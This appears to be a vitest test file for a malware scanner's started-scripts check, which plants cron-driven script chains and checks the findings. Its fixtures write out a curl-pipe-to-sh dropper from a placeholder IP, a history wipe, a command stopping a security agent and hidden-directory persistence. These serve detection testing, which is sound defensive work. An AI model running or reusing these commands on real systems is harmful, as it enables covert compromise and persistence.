/**
 * The started-scripts check over planted trees: a chain cron → /usr/local/bin/update.sh
 * → /tmp/.x/run.sh (which pipes curl into sh) reported at each file and line with who
 * starts it; symlinks resolved inside the root; packaged scripts, binaries, cron.daily
 * and init.d scripts (read by their own checks) left alone; other languages matched but
 * not read as shell; a script that starts itself scanned once; depth and count bounds;
 * hostile scripts (huge, binary, a million started paths) neither crash nor stall; the
 * chain found in a tar.gz read in one pass; the clean Debian root with every check
 * gives nothing of medium severity or more.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import { servicesCheck } from '../../src/checks/services.js';
import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
import { ALL_CHECKS } from '../../src/checks/index.js';
import type { Check, StartedFile } from '../../src/model/check.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { scanTarget } from '../../src/engine/scan.js';
import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
import { builtinRules, scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);
const DEBIAN_ROOT = fixture('debianRoot');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);
const DROPPER = 'curl -fsSL http://198.51.100.7/x.sh | sh';

type Tree = Record<string, string | Buffer>;

async function writeTree(root: string, files: Tree, links: [string, string][] = []): Promise<void> {
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await writeFile(path.join(root, rel), content, { mode: 0o755 });
  }
  for (const [rel, target] of links) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await symlink(target, path.join(root, rel));
  }
}

const CHAIN: Tree = {
  'etc/crontab': 'SHELL=/bin/sh\n*/10 * * * * root /usr/local/bin/update.sh >/dev/null 2>&1\n@reboot root /usr/local/bin/upd\n',
  'usr/local/bin/update.sh': '#!/bin/bash\n# nightly update\ncd /srv/app && git pull -q\n/tmp/.x/run.sh &\n',
  'tmp/.x/run.sh': `#!/bin/sh\n\n${DROPPER}\nexport HISTFILE=/dev/null\n`,
  // Reached through a symlink: reported at the real path.
  'opt/.u/upd.sh': `#!/bin/sh\nsh /opt/.u/stage2\n`,
  // Not executable and without "#!": a shell runs it all the same.
  'opt/.u/stage2': 'systemctl stop aliyun\n',
  // Started by a script, owned by a package: left to the package checks.
  'usr/local/bin/packaged-helper': `#!/bin/sh\n${DROPPER}\n`,
  'var/lib/dpkg/info/helper.list': '/usr/local/bin/packaged-helper\n',
  // Started by a script, read by the cron check already.
  'etc/cron.daily/rotate': `#!/bin/sh\n${DROPPER}\n`,
  'usr/local/bin/binary': ELF,
  'usr/local/bin/report.py': `#!/usr/bin/env python3\nimport os, subprocess\nsubprocess.call(["/tmp/never-started"])\nos.system("${DROPPER}")\n`,
  'usr/local/bin/nightly': [
    '#!/bin/sh',
    '/usr/local/bin/packaged-helper',
    '/etc/cron.daily/rotate',
    '/usr/local/bin/binary',
    '/usr/local/bin/report.py',
    '/usr/local/bin/missing',
    '. /etc/profile.d/proxy.sh',
    '',
  ].join('\n'),
  // Started by a script, read by the shell start-up check (not part of this scan).
  'etc/profile.d/proxy.sh': `${DROPPER}\n`,
  'etc/cron.d/nightly': '0 3 * * * root /usr/local/bin/nightly\n',
};
const CHAIN_LINKS: [string, string][] = [['usr/local/bin/upd', '/opt/.u/upd.sh']];

/** s1 starts s2 ... s6; each also pipes curl into sh. */
function deepChain(): Tree {
  const tree: Tree = { 'etc/cron.d/deep': '* * * * * root /opt/deep/s1\n' };
  for (let i = 1; i <= 6; i++) tree[`opt/deep/s${i}`] = `#!/bin/sh\n${DROPPER}\n/opt/deep/s${i + 1}\n`;
  return tree;
}

const row = (f: Finding) => `${f.path}:${f.line ?? ''} ${f.rule} ${f.severity}`;
/** The engine's correlation pass links persistence lines to what they start; its findings are tested with it. */
const checkFindings = (findings: Finding[]) => findings.filter((f) => !f.rule.startsWith('correlation.'));

describe('started-scripts check', () => {
  let scratch: string;
  const root = (name: string) => path.join(scratch, name);

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-started-scripts-');
    await writeTree(root('chain'), CHAIN, CHAIN_LINKS);
    await writeTree(root('loop'), {
      'etc/cron.d/loop': '* * * * * root /usr/local/bin/loop.sh\n',
      'usr/local/bin/loop.sh': `#!/bin/sh\n${DROPPER}\n/usr/local/bin/loop.sh &\nsh /usr/local/bin/loop.sh\n`,
    });
    await writeTree(root('deep'), deepChain());
    // Four levels whose last script starts only a binary: nothing left unscanned to mention.
    const fourLevels = deepChain();
    fourLevels['opt/deep/s4'] = `#!/bin/sh\n${DROPPER}\n/opt/deep/bin\n`;
    fourLevels['opt/deep/bin'] = ELF;
    await writeTree(root('four'), fourLevels);
    const wide: Tree = { 'etc/cron.d/wide': '* * * * * root /opt/wide/fan\n' };
    wide['opt/wide/fan'] = `#!/bin/sh\n${Array.from({ length: 300 }, (_, i) => `/opt/wide/s${i}`).join('\n')}\n`;
    for (let i = 0; i < 300; i++) wide[`opt/wide/s${i}`] = `#!/bin/sh\n${DROPPER}\n`;
    await writeTree(root('wide'), wide);
    await writeTree(root('hostile'), {
      'etc/cron.d/hostile': ['big', 'junk', 'long', 'many', 'nul'].map((n) => `* * * * * root /opt/h/${n}`).join('\n') + '\n',
      'opt/h/big': `#!/bin/sh\n${'echo ok\n'.repeat(400_000)}${DROPPER}\n`,
      'opt/h/junk': Buffer.from(Array.from({ length: 200_000 }, (_, i) => 1 + ((i * 7919) % 255))),
      'opt/h/long': `#!/bin/sh\n${'$('.repeat(100_000)}\n${'curl | '.repeat(200_000)}sh\n`,
      'opt/h/many': `#!/bin/sh\n${Array.from({ length: 100_000 }, (_, i) => `/opt/h/none/${i} &`).join('\n')}\n`,
      'opt/h/nul': Buffer.from(`#!/bin/sh\n${DROPPER}\n\u0000\u0000`),
    });
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('follows cron → update.sh → /tmp/.x/run.sh and reports each line where it is, with who starts it', async () => {
    const started: StartedFile[] = [];
    const collect: Check = { id: 'collect', description: 'test helper', phase: 'combine', paths: [], run: async (ctx) => void started.push(...ctx.startedFiles()) };
    const result = await scanDirectory(root('chain'), [cronCheck, startedScriptsCheck, collect]);
    expect(result.errors).toEqual([]);
    const own = checkFindings(result.findings).filter((f) => f.category === 'persistence/script');
    expect(own.map(row).sort()).toEqual(
      [
        '/usr/local/bin/update.sh:4 command.started-from-temp high',
        '/tmp/.x/run.sh:3 command.download-and-run high',
        '/tmp/.x/run.sh:4 command.history-wipe medium',
        '/opt/.u/upd.sh:2 command.started-from-hidden high',
        '/opt/.u/stage2:1 command.kill-security-agent high',
        '/usr/local/bin/report.py:4 command.download-and-run high',
      ].sort(),
    );
    const message = (p: string, rule: string) => own.find((f) => f.path === p && f.rule === rule)!.message;
    expect(message('/usr/local/bin/update.sh', 'command.started-from-temp')).toBe(
      '/usr/local/bin/update.sh:4 starts /tmp/.x/run.sh, a program in a world-writable temporary directory (script started by /etc/crontab:2)',
    );
    expect(message('/tmp/.x/run.sh', 'command.download-and-run')).toBe(
      '/tmp/.x/run.sh:3 downloads a script and runs it in a shell (script started by /usr/local/bin/update.sh:4, which /etc/crontab:2 starts)',
    );
    expect(message('/opt/.u/stage2', 'command.kill-security-agent')).toContain('(script started by /opt/.u/upd.sh:2, which /etc/crontab:3 starts)');
    const fix = own.find((f) => f.path === '/tmp/.x/run.sh' && f.rule === 'command.download-and-run')!.remediation.split('\n');
    expect(fix[0]).toBe(`sed -i '3d' /tmp/.x/run.sh   # deletes line 3: ${DROPPER}`);
    expect(fix[1]).toBe("# or, when the whole script is the intruder's: rm -f /tmp/.x/run.sh, and remove what starts it (/usr/local/bin/update.sh:4)");

    // What scripts start is recorded for the hash check, as "script:line".
    expect(started).toContainEqual({ path: '/tmp/.x/run.sh', startedBy: '/usr/local/bin/update.sh:4' });
    expect(started).toContainEqual({ path: '/opt/.u/stage2', startedBy: '/opt/.u/upd.sh:2' });
    expect(started).toContainEqual({ path: '/etc/profile.d/proxy.sh', startedBy: '/usr/local/bin/nightly:7', sourced: true });
    // A python script is matched, not read as shell: nothing it names is taken as started.
    expect(started.map((s) => s.path)).not.toContain('/tmp/never-started');
    // Packaged, cron.daily (the cron check's), profile.d (the shell start-up check's), binary and missing files give nothing here.
    for (const p of ['/usr/local/bin/packaged-helper', '/usr/local/bin/binary', '/usr/local/bin/missing', '/etc/profile.d/proxy.sh']) {
      expect(result.findings.filter((f) => f.path === p)).toEqual([]);
    }
    expect(result.findings.filter((f) => f.path === '/etc/cron.daily/rotate').map((f) => f.category)).toEqual(['persistence/cron']);
  });

  it('scans a script that starts itself once', async () => {
    const result = await scanDirectory(root('loop'), [cronCheck, startedScriptsCheck]);
    expect(result.errors).toEqual([]);
    expect(checkFindings(result.findings).map(row)).toEqual(['/usr/local/bin/loop.sh:2 command.download-and-run high']);
  });

  it('follows four levels of scripts and says where it stopped', async () => {
    const result = await scanDirectory(root('deep'), [cronCheck, startedScriptsCheck]);
    expect(checkFindings(result.findings).map(row).sort()).toEqual([1, 2, 3, 4].map((i) => `/opt/deep/s${i}:2 command.download-and-run high`));
    expect(result.errors).toEqual([{ message: 'started-scripts: scripts were followed 4 levels deep; 1 scripts started below that were not scanned' }]);
  });

  it('says nothing of the depth bound when only binaries lie below it', async () => {
    const result = await scanDirectory(root('four'), [cronCheck, startedScriptsCheck]);
    expect(checkFindings(result.findings).map(row).sort()).toEqual([1, 2, 3, 4].map((i) => `/opt/deep/s${i}:2 command.download-and-run high`));
    expect(result.errors).toEqual([]);
  });

  it('scans at most 256 scripts', async () => {
    const result = await scanDirectory(root('wide'), [cronCheck, startedScriptsCheck]);
    const scanned = new Set(result.findings.filter((f) => f.rule === 'command.download-and-run').map((f) => f.path));
    expect(scanned.size).toBe(255);
    expect(result.errors).toEqual([{ message: 'started-scripts: stopped after 256 scripts' }]);
  });

  it('reads hostile scripts without crashing or stalling', async () => {
    const result = await scanHostile(root('hostile'), [cronCheck, startedScriptsCheck], { maxOperations: 150_000 });
    expect(result.errors).toEqual([{ message: 'started-scripts: 4096 started paths were looked up; the rest were not followed' }]);
    // A script longer than 1 MiB is read whole, as the shell reads it; a NUL after the first
    // 4 KiB does not make a script binary; junk without NUL is text that matches nothing.
    expect(result.findings.filter((f) => f.path === '/opt/h/big').map(row)).toEqual(['/opt/h/big:400002 command.download-and-run high']);
    expect(result.findings.filter((f) => f.path === '/opt/h/nul').map(row)).toEqual(['/opt/h/nul:2 command.download-and-run high']);
    expect(result.findings.filter((f) => f.path === '/opt/h/junk' && severityRank(f.severity) >= severityRank('medium'))).toEqual([]);
  });

  it('finds the chain in a tar.gz read in one pass', async () => {
    const archive = path.join(scratch, 'chain.tar.gz');
    await run('tar', ['-czf', archive, '-C', root('chain'), '.']);
    const report = await scanTarget(archive, { checks: [cronCheck, servicesCheck, startedScriptsCheck], rules: await builtinRules(), hashes: EMPTY_HASH_LIST });
    expect(report.source).toMatchObject({ format: 'tar+gzip' });
    const own = report.findings.filter((f) => f.category === 'persistence/script').map(row);
    expect(own).toContain('/tmp/.x/run.sh:3 command.download-and-run high');
    expect(own).toContain('/opt/.u/upd.sh:2 command.started-from-hidden high');
  });

  it('finds nothing of medium severity or more in the clean Debian root with every check', async () => {
    const result = await scanDirectory(DEBIAN_ROOT, ALL_CHECKS);
    const loud = result.findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));
    expect(loud.map(row)).toEqual([]);
    expect(result.findings.filter((f) => f.category === 'persistence/script')).toEqual([]);
  }, 300_000);
});
